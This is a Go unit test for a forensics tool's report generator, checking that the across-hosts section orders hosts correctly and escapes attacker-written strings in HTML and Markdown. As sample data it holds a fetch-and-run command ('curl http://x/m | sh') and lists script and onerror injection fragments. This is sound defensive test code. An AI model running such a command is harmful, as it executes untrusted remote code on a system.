package report

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"github.com/cordon-forensics/cordon/analyzer/findings"
	"github.com/cordon-forensics/cordon/analyzer/fleet"
	"github.com/cordon-forensics/cordon/timeline"
)

// The section across hosts lists the hosts in the order reached, says so
// in the summary, and escapes what the attacker wrote (a command line, a
// host name) in HTML and Markdown alike.
func TestFleetSection(t *testing.T) {
	t0 := time.Date(2026, 11, 2, 2, 0, 0, 0, time.UTC)
	sight := func(host string, d time.Duration) fleet.Sighting {
		ref := findings.Evidence{Time: t0.Add(d).Format(time.RFC3339Nano), Message: "m " + hostile,
			Provenance: timeline.Provenance{Bundle: "ev-" + host, Entry: "fs/var/log/auth.log", Line: 7}}
		return fleet.Sighting{Host: host, First: t0.Add(d), Last: t0.Add(d + time.Hour), Events: 3, FirstRef: ref, LastRef: ref}
	}
	r := sample()
	r.AddFleet([]fleet.Spread{{Kind: fleet.CommandLine, Value: "curl http://x/m | sh " + hostile + " a|b", Why: "why " + hostile,
		Hosts: []fleet.Sighting{sight("agent04", 0), sight("agent00|x", 7*time.Minute), sight(hostile, 14*time.Minute)}}})
	found := false
	for _, l := range summaryLines(r) {
		if l.Label == "Across hosts" {
			found = true
			if !strings.Contains(l.Text, "on 3 hosts") || !strings.Contains(l.Text, "agent04 → agent00|x → ") || len(l.Refs) != 1 {
				t.Errorf("summary: %+v", l)
			}
		}
	}
	if !found {
		t.Error("no line across hosts in the summary")
	}
	var h bytes.Buffer
	if err := HTML(&h, r); err != nil {
		t.Fatal(err)
	}
	s := h.String()
	i := strings.Index(s, `<h2 id="fleet">`)
	if i < 0 {
		t.Fatal("no section across hosts in the HTML")
	}
	sec := s[i:]
	if a, b := strings.Index(sec, "<td>agent04</td>"), strings.Index(sec, "<td>agent00|x</td>"); a < 0 || b < a {
		t.Errorf("HTML hosts out of order:\n%.2000s", sec)
	}
	for _, bad := range []string{"<script>", "</style><img", "onerror=\"", "\x1b", "\x07"} {
		if strings.Contains(s, bad) {
			t.Errorf("HTML holds unescaped %q", bad)
		}
	}
	var m bytes.Buffer
	if err := Markdown(&m, r); err != nil {
		t.Fatal(err)
	}
	md := m.String()
	i = strings.Index(md, "## Across hosts")
	if i < 0 {
		t.Fatal("no section across hosts in the Markdown")
	}
	for _, line := range strings.Split(md[i:], "\n") {
		if strings.HasPrefix(line, "| 1 ") || strings.HasPrefix(line, "| 2 ") || strings.HasPrefix(line, "| 3 ") {
			if n := strings.Count(line, "|") - strings.Count(line, "\\|"); n != 7 {
				t.Errorf("%d unescaped pipes in row %q", n, line)
			}
		}
		for _, bad := range []string{"<script", "<img", "\x1b"} {
			if strings.Contains(line, bad) {
				t.Errorf("Markdown holds unescaped %q: %q", bad, line)
			}
		}
	}
	if !strings.Contains(md[i:], "| 1 | agent04 |") || !strings.Contains(md[i:], `| 2 | agent00\|x |`) {
		t.Errorf("Markdown rows:\n%.1500s", md[i:])
	}
}
